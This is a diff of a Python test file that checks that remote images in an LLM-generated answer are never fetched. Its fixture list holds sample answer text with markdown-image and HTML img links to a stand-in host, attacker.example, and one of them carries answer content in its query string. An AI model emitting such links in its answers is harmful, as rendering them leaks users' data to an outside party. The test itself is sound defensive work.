@@ -197,8 +197,12 @@ def test_a_remote_image_in_an_answer_is_never_fetched(
     monkeypatch.setattr(
         fake_ollama,
         "ANSWER_PIECES",
-        ["The tomatoes are watered on Tuesday [1]. ", "![](http://attacker.example/pixel.png?q=tomatoes-tuesday) ",
-         '<img src="http://attacker.example/html.png"> ', "[more](http://attacker.example/link) www.attacker.example"],
+        [
+            "The tomatoes are watered on Tuesday [1]. ",
+            "![](http://attacker.example/pixel.png?q=tomatoes-tuesday) ",
+            '<img src="http://attacker.example/html.png"> ',
+            "[more](http://attacker.example/link) www.attacker.example",
+        ],
     )
     corpus = tmp_path / "corpus"
     corpus.mkdir()
